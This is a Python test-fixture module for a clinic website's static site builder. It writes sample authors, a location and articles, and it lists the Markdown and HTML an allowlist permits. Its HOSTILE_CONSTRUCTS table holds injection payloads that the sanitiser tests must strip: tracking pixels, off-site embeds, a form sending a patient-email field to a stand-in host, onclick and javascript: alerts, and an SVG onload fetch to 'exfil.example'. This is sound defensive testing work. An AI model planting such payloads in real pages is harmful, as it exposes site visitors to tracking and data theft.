"""A small content folder for tests: one author, one location, the pages the
plugin needs, and articles given by the test."""

import json
import shutil

from sitebuilder import ROOT, write

AUTHORS = """\
ann-writer:
  name: Ann Writer
  credentials: LPCC
  role: Counselor
  bio: Ann writes about care.
rob-reviewer:
  name: Rob Reviewer
  credentials: MD
  role: Psychiatrist
  bio: Rob reviews articles.
"""

LOCATION = """\
---
title: Testville
name: New Pathways Clinic Testville
summary: The Testville clinic.
street: 1 Main Street
city: Testville
state: OH
zip: "44100"
phone: (216) 555-0100
email: test@newpathways.example
latitude: 41.5
longitude: -81.6
hours:
  monday: "08:00-17:00"
  tuesday: "08:00-17:00"
  wednesday: "08:00-17:00"
  thursday: "08:00-17:00"
  friday: "08:00-12:30"
  saturday: closed
  sunday: closed
treatments: [spravato, support-groups]
parking: Free lot.
transit: Bus 1.
---

A friendly test clinic.
"""


def article(title="A test article", **fields):
    """Front matter + body of a valid article; `fields` override or add keys."""
    meta = {
        "title": title,
        "date": "2026-01-05",
        "author": "ann-writer",
        "category": "Treatments",
        "tags": "[Ketamine]",
        # Each title its own summary: the check refuses two pages with one.
        "summary": f"A short summary of {title}.",
        "hero_image": "hero.jpg",
        "hero_alt": "Abstract teal waves",
    }
    meta.update(fields)
    front = "\n".join(f"{key}: {value}" for key, value in meta.items() if value is not None)
    return f"---\n{front}\n---\n\nOpening paragraph.\n\n## Getting ready\n\nText.\n"


def make_content(folder, articles):
    """Write a content folder; `articles` maps file stem -> file text."""
    write(folder / "authors.yml", AUTHORS)
    write(folder / "locations" / "testville.md", LOCATION)
    # The real site pages, so the menu and footer links of a production
    # build lead somewhere and the output check passes.
    shutil.copytree(ROOT / "content" / "pages", folder / "pages", dirs_exist_ok=True)
    (folder / "images").mkdir(parents=True, exist_ok=True)
    shutil.copy(
        ROOT / "content" / "images" / "integration-after-a-ketamine-session.jpg",
        folder / "images" / "hero.jpg",
    )
    for name in ("social-default.jpg", "logo.png", "favicon.png"):
        shutil.copy(ROOT / "content" / "images" / name, folder / "images" / name)
    for stem, body in articles.items():
        write(folder / "articles" / f"{stem}.md", body)
    return folder


def hostile_content(folder, title, summary, **fields):
    """A content folder with one article, `hostile`, whose title and summary
    are given verbatim (JSON-quoted, so YAML keeps every character)."""
    body = article(title=json.dumps(title), summary=json.dumps(summary), **fields)
    return make_content(folder, {"hostile": body})


# Every construct the allowlist (plugins/clinic/body/allowlist.py) lets a body
# have: Markdown and its extras, and the HTML a writer may type. Links to
# another article need `two.md` beside it.
ALLOWED_BODY = """\
An opening paragraph with *emphasis*, **strong words**, `inline code`
and a [link to treatments](/treatments/).

## A section {#a-section}

### What to bring

#### A smaller heading

1. First step
2. Second step

3. Third item, after a gap

- a list item with a [link to another site](https://www.nimh.nih.gov/health "NIMH")
- an [email link](mailto:info@newpathways.example) and a [phone link](tel:+12165550100)

> A quotation from a patient guide.

---

Line one{HARD_BREAK}
line two, after a line break.

![A calm waiting room](/images/hero.jpg "The waiting room")

![A second picture]({static}/images/hero.jpg)

Read [the other article]({filename}two.md) or go back to [the section](#a-section).

| Dose | When |
|------|------|
| 56 mg | Week 1 |

Infusion
:   Medicine given slowly through a vein.

The WHO says so.[^1]

*[WHO]: World Health Organization

[^1]: World Health Organization, 2024.

```text
a plain code block
```

    an indented code block

Water is H<sub>2</sub>O, and x<sup>2</sup> is a square.
<abbr title="Food and Drug Administration">FDA</abbr> approval.<br>
A line after a typed break. Fish &amp; chips, 3 &lt; 4, caf&eacute; &#8212; fine.

<!-- A note for the reviewer: check the dose table. -->
""".replace("{HARD_BREAK}", "  ")  # Markdown's line break: two spaces at the end of a line

# Finding 4 of issue 15, each as a writer might paste it, one line each:
# name -> (the Markdown, text that must never reach any published file).
HOSTILE_CONSTRUCTS = {
    "pixel script": (
        "<script>!function(f,b,e,v){f.fbq=function(){};}(window,document,'script',"
        "'https://connect.facebook.net/en_US/fbevents.js');fbq('init','1234567890');</script>",
        ["fbq(", "connect.facebook.net"],
    ),
    "pixel noscript": (
        '<noscript><img height="1" width="1" alt="Facebook pixel" '
        'src="https://www.facebook.com/tr?id=1234567890&ev=PageView&noscript=1"></noscript>',
        ["facebook.com/tr", "Facebook pixel"],
    ),
    "off-site image": (
        "![A chart of the results](https://cdn.example.net/chart.png)",
        ["cdn.example.net"],
    ),
    "iframe": (
        '<iframe src="https://www.youtube.com/embed/abc123" title="Our clinic"></iframe>',
        ["youtube.com/embed"],
    ),
    "video": (
        '<video src="https://media.example.net/clip.mp4" controls></video>',
        ["media.example.net"],
    ),
    "stylesheet": (
        '<link rel="stylesheet" href="https://fonts.example.net/font.css">',
        ["fonts.example.net"],
    ),
    "prefetch": (
        '<link rel="prefetch" href="https://tracker.example.net/prefetch">',
        ["tracker.example.net/prefetch"],
    ),
    "base": ('<base href="https://elsewhere.example/base/">', ["elsewhere.example/base"]),
    "object": ('<object data="https://elsewhere.example/movie.swf"></object>', ["movie.swf"]),
    "svg onload": ("<svg onload=\"fetch('https://exfil.example/svg')\"></svg>", ["exfil.example"]),
    "ping": (
        'Read the <a href="https://www.nimh.nih.gov/" ping="https://tracker.example.net/ping">'
        "NIMH guide</a>.",
        ["tracker.example.net/ping"],
    ),
    "form": (
        '<form action="https://elsewhere.example/collect"><input name="patient-email"></form>',
        ["elsewhere.example/collect", "patient-email"],
    ),
    "style": (
        "<style>body { background: url(https://tracker.example.net/bg.png) }</style>",
        ["tracker.example.net/bg.png"],
    ),
    "meta refresh": (
        '<meta http-equiv="refresh" content="2;url=https://elsewhere.example/moved">',
        ["elsewhere.example/moved"],
    ),
    "handler": ("<p onclick=\"alert('handler')\">Click here</p>", ["onclick", "alert('handler')"]),
    "javascript link": ("[Click me](javascript:alert(1))", ["javascript:alert"]),
}
# article()'s body ends on line 16; hostile_article() puts each construct on
# its own line from here, a blank line between two.
FIRST_CONSTRUCT_LINE = 18


def hostile_article():
    """A valid article with every hostile construct appended, in order."""
    return article() + "\n" + "\n\n".join(md for md, _ in HOSTILE_CONSTRUCTS.values()) + "\n"
